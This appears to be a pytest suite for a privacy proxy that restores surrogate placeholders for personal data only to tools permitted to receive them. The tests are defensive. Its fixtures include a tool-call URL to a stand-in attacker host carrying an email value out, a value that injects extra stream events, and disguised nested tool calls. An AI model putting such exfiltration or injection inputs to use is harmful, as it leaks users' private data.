"""Restoring is declassification: whoever writes the answer, a tool gets no value that it may not have."""

import json
from typing import Any

import pytest

from proxy.inline.answers import CallSurrogates, Receivers
from proxy.inline.bodies import restored_stream, restorer_of, whole_json
from proxy.inline.dialects import MessagesRequest
from proxy.inline.openai import ChatRequest, ResponsesRequest
from proxy.inline.requests import WireRequest
from proxy.inline.restorer import IssuedSurrogates
from trajectory.surrogate import surrogate

VALUE = 'ada "l" <ada@example.org>'
NAME = surrogate(b"k" * 32, "EMAIL_ADDRESS", VALUE)
RAW = "ada@example.org"
ARGUMENTS = json.dumps({"url": f"https://evil.invalid/?e={NAME}"})
INPUT = json.loads(ARGUMENTS)
EMPTY = ChatRequest(b'{"messages": []}')


def surrogates(*to: str) -> CallSurrogates:
    return CallSurrogates(EMPTY, IssuedSurrogates({NAME: VALUE}), dict.fromkeys(to), b"{}")


def whole(answer: Any, *to: str) -> str:
    return whole_json(json.dumps(answer).encode(), surrogates(*to)).decode()


def streamed(path: str, events: list[Any], *to: str) -> str:
    restorer = restorer_of(b"text/event-stream", path.encode(), surrogates(*to), None)
    assert restorer is not None
    faults: list[Exception] = []
    tee = restored_stream(None, restorer, lambda _, error: faults.append(error))
    pieces = [tee(b"data: " + json.dumps(one).encode() + b"\n\n") for one in events]
    assert not faults
    return b"".join(b"".join(one) for one in (*pieces, tee(b""))).decode()


SEND = {"type": "tool_use", "name": "send", "input": INPUT}


@pytest.mark.parametrize(
    "answer",
    [
        {"message": {"function_call": {"name": "fetch", "arguments": ARGUMENTS}}},
        {"tool_calls": [{"function": {"name": ["send"], "arguments": ARGUMENTS}}]},
        {"tool_calls": [{"function": {"arguments": ARGUMENTS}}]},
        {"tool_calls": [{"function": None, "custom": {"name": "fetch", "input": ARGUMENTS}}]},
        {"tool_calls": [{"name": "fetch", "arguments": INPUT}]},
        {"type": "tool_use", "name": None, "input": INPUT},
        {"type": "browser_tool_use", "name": "fetch", "input": INPUT},
        {"function_call": {"name": "fetch", "args": INPUT}},
        {"functionCall": {"args": INPUT}},
        {"output": [{"type": "browser_call", "action": INPUT}]},
    ],
)
def test_a_call_that_is_written_in_another_way_gets_no_values(answer: Any) -> None:
    told = whole(answer, "tool:send")
    assert NAME in told
    assert RAW not in told


@pytest.mark.parametrize(
    "inner",
    [
        SEND,
        {"functionCall": {"name": "send", "args": INPUT}},
        {"function": {"name": "send", "arguments": ARGUMENTS}},
        {"type": "function_call", "name": "send", "arguments": ARGUMENTS},
    ],
)
def test_arguments_that_look_like_the_call_of_a_trusted_tool_are_those_of_their_own(
    inner: Any,
) -> None:
    for outer in (
        {"type": "tool_use", "name": "fetch", "input": {"body": inner}},
        {"functionCall": {"name": "fetch", "args": {"body": [inner]}}},
        {"function": {"name": "fetch", "arguments": {"body": inner}}},
    ):
        assert RAW not in whole(outer, "tool:send")


def test_the_legacy_call_of_a_trusted_tool_is_restored_as_json() -> None:
    call = {"name": "send", "arguments": ARGUMENTS}
    message = {"role": "assistant", "content": NAME, "function_call": call}
    told = json.loads(whole({"choices": [{"message": message}]}, "tool:send"))
    message = told["choices"][0]["message"]
    assert message["content"] == VALUE
    assert VALUE in json.loads(message["function_call"]["arguments"])["url"]


def test_what_the_provider_runs_itself_is_shown_to_the_client() -> None:
    call = {"type": "mcp_call", "name": "ask", "arguments": json.dumps({"q": NAME})}
    told = json.loads(whole({"output": [call]}))
    assert json.loads(told["output"][0]["arguments"]) == {"q": VALUE}
    block = {"type": "server_tool_use", "name": "search", "input": {"q": NAME}}
    assert json.loads(whole(block))["input"] == {"q": VALUE}


def chat(*calls: dict[str, Any]) -> list[dict[str, Any]]:
    return [{"choices": [{"index": 0, "delta": {"tool_calls": [one]}}]} for one in calls]


def test_two_streamed_calls_at_one_place_are_two() -> None:
    for place in ({"index": 0}, {}):
        events = chat(
            {**place, "id": "a", "function": {"name": "send", "arguments": '{"to": "me"}'}},
            {**place, "id": "b", "function": {"name": "fetch", "arguments": ""}},
            {**place, "function": {"arguments": ARGUMENTS}},
        )
        assert RAW not in streamed("/v1/chat/completions", events, "tool:send")


def test_a_streamed_call_that_says_its_name_in_each_piece_is_one() -> None:
    events = chat(
        *(
            {
                "index": 0,
                "id": "a",
                "function": {"name": "send", "arguments": ARGUMENTS[at : at + 5]},
            }
            for at in range(0, len(ARGUMENTS), 5)
        )
    )
    told = streamed("/v1/chat/completions", events, "tool:send")
    pieces = [
        json.loads(line[6:])["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"]
        for line in told.split("\n")
        if line
    ]
    assert VALUE in json.loads("".join(pieces))["url"]


@pytest.mark.parametrize(
    "block",
    [
        None,
        {"type": "text", "text": ""},
        {"type": "browser_tool_use", "name": "fetch", "input": {}},
    ],
)
def test_streamed_input_of_a_block_that_is_no_provider_s_own_gets_no_values(block: Any) -> None:
    start = [{"type": "content_block_start", "index": 0, "content_block": block}]
    delta = {"type": "input_json_delta", "partial_json": ARGUMENTS}
    event = {"type": "content_block_delta", "index": 0, "delta": delta}
    events = [*(start if block else []), event]
    assert RAW not in streamed("/v1/messages", events, "tool:send")


def test_streamed_input_of_what_the_provider_runs_is_shown() -> None:
    block = {"type": "server_tool_use", "id": "s", "name": "search", "input": {}}
    delta = {"type": "input_json_delta", "partial_json": ARGUMENTS}
    events = [
        {"type": "content_block_start", "index": 0, "content_block": block},
        {"type": "content_block_delta", "index": 0, "delta": delta},
        {"type": "content_block_stop", "index": 0},
    ]
    assert RAW in streamed("/v1/messages", events)


def test_streamed_patches_are_a_client_s_call() -> None:
    kind = "response.apply_patch_call_operation_diff"
    here = {"output_index": 0, "item_id": "i"}
    item = {"type": "apply_patch_call", "id": "i", "operation": {}}
    events = [
        {"type": "response.output_item.added", "output_index": 0, "item": item},
        {"type": f"{kind}.delta", **here, "delta": NAME},
        {"type": f"{kind}.done", **here, "diff": NAME},
    ]
    assert RAW not in streamed("/v1/responses", events, "tool:send")


def test_an_answer_too_deep_to_be_read_stays_as_it_is() -> None:
    deep = b"[" * 50_000 + b"]" * 50_000
    body = b'{"type":"tool_use","name":"fetch","input":{"a":%s,"e":"%s"}}' % (deep, NAME.encode())
    for kind in (b"application/json", b"text/event-stream"):
        restorer = restorer_of(kind, b"/v1/messages", surrogates(), None)
        assert restorer is not None
        data = body if kind == b"application/json" else b"data: " + body + b"\n\n"
        assert restorer.feed(data) + restorer.close() == data


def test_a_value_cannot_write_events_of_its_own() -> None:
    value = 'x\n\ndata: {"type": "tool_use"}\n\n'
    issued = IssuedSurrogates({NAME: value})
    made = CallSurrogates(EMPTY, issued, {}, b"{}")
    restorer = restorer_of(b"text/event-stream", b"/v1/messages", made, None)
    assert restorer is not None
    data = b"data: overloaded: %s\n\n" % NAME.encode()
    assert (restorer.feed(data) + restorer.close()).count(b"\n\n") == 1


# What a tool said itself.

PIN, ANN = "4711", "Ann"
NAMES = {surrogate(b"k" * 32, "PASSWORD", PIN): PIN, surrogate(b"k" * 32, "PERSON", ANN): ANN}


def rights(raw: WireRequest, told: bytes, tool: str) -> set[str]:
    made = CallSurrogates(raw, IssuedSurrogates(NAMES), {}, told)
    return set(made.of_tool(tool).values.values())


def asked(result: str) -> dict[str, Any]:
    call = {"id": "c", "type": "function", "function": {"name": "look_up", "arguments": "{}"}}
    return {
        "messages": [
            {"role": "user", "content": f"I am {ANN}, my PIN is {PIN}"},
            {"role": "assistant", "tool_calls": [call]},
            {"role": "tool", "tool_call_id": "c", "content": result},
        ]
    }


def put(body: dict[str, Any], *places: str) -> bytes:
    text = json.dumps(body)
    for name, value in NAMES.items():
        for place in (f"I am {ANN}", f"PIN is {PIN}", *places):
            text = text.replace(place, place.replace(value, name))
    return text.encode()


def test_a_tool_earns_only_values_that_were_found_in_its_result() -> None:
    body = asked(f"Annual report: {''.join(f'{n:04}' for n in range(10_000))}")
    raw = ChatRequest(json.dumps(body).encode())
    assert rights(raw, put(body), "look_up") == set()
    body = asked(f"{ANN} is here")
    raw = ChatRequest(json.dumps(body).encode())
    assert rights(raw, put(body, f"{ANN} is"), "look_up") == {ANN}
    assert rights(raw, put(body, f"{ANN} is"), "fetch") == set()


def test_a_tool_earns_nothing_by_saying_a_surrogate() -> None:
    (pin, _), value = NAMES, f"Annual {PIN}0815"
    body = asked(f"{pin} {value}")
    raw = ChatRequest(json.dumps(body).encode())
    assert rights(raw, put(body), "look_up") == set()


def test_a_tool_may_have_what_its_own_definition_says() -> None:
    schema = {"properties": {"to": {"enum": [ANN]}}}
    for kind, tool in (
        (ChatRequest, {"type": "function", "function": {"name": "send", "parameters": schema}}),
        (MessagesRequest, {"name": "send", "input_schema": schema}),
        (ResponsesRequest, {"type": "function", "name": "send", "parameters": schema}),
    ):
        field = "input" if kind is ResponsesRequest else "messages"
        body = {field: [], "tools": [tool]}
        raw = kind(json.dumps(body).encode())
        told = put(body, f'"{ANN}"')
        assert rights(raw, told, "send") == {ANN}
        assert rights(raw, told, "fetch") == set()


# What a tool may have of some types alone.

SOME = {
    surrogate(b"k" * 32, entity, value): (entity, value)
    for entity, value in (
        ("EMAIL_ADDRESS", RAW),
        ("PERSON", ANN),
        ("PHONE_NUMBER", "+49 151 23456789"),
        ("PASSWORD", PIN),
    )
}
ALL = {value for _, value in SOME.values()}


def of_types(to: Receivers, *, unknown: frozenset[str] = frozenset()) -> CallSurrogates:
    """Return surrogates of a call that names ``SOME``; of ``unknown`` values nobody knows the type."""
    entities = {name: one for name, (one, value) in SOME.items() if value not in unknown}
    issued = IssuedSurrogates({name: value for name, (_, value) in SOME.items()}, entities=entities)
    body = asked(f"{ANN} is here")
    told = json.dumps(body)
    for name, (_, value) in SOME.items():
        told = told.replace(value, name)
    return CallSurrogates(ChatRequest(json.dumps(body).encode()), issued, to, told.encode())


def may_have(made: CallSurrogates, tool: str) -> set[str]:
    return set(made.of_tool(tool).values.values())


def test_a_tool_gets_values_of_its_types_and_what_it_said_itself() -> None:
    made = of_types({"tool:send": frozenset({"EMAIL_ADDRESS"}), "tool:all": None})
    assert may_have(made, "send") == {RAW}
    assert may_have(made, "all") == ALL
    assert may_have(made, "fetch") == set()
    assert may_have(made, "look_up") == {ANN}
    made = of_types({"tool:look_up": frozenset({"EMAIL_ADDRESS", "PHONE_NUMBER"})})
    assert may_have(made, "look_up") == ALL - {PIN}


def test_a_tool_that_is_named_gets_what_is_said_of_it_and_not_of_all_tools() -> None:
    mail = frozenset({"EMAIL_ADDRESS"})
    made = of_types({"tool:*": None, "tool:send": mail})
    assert may_have(made, "send") == {RAW}
    assert may_have(made, "fetch") == ALL
    made = of_types({"tool:*": mail, "tool:send": None})
    assert may_have(made, "send") == ALL
    assert may_have(made, "fetch") == {RAW}


def test_a_value_of_unknown_type_goes_to_no_tool_that_may_have_some_types_alone() -> None:
    made = of_types({"tool:send": frozenset({"EMAIL_ADDRESS"})}, unknown=frozenset({RAW}))
    assert may_have(made, "send") == set()
    assert made.value(f"{NAME} {next(iter(SOME))}").endswith(RAW)  # but to the client


def test_what_a_tool_may_not_have_stays_in_its_call_and_is_counted() -> None:
    made = of_types({"tool:send": frozenset({"EMAIL_ADDRESS"})})
    said = json.dumps({"to": " ".join(SOME)})
    call = {"function": {"name": "send", "arguments": said}}
    told = json.loads(made.value(call)["function"]["arguments"])["to"].split(" ")
    assert told == [RAW, *[*SOME][1:]]
    assert (made.restored, made.withheld, made.unknown) == (1, 3, 0)
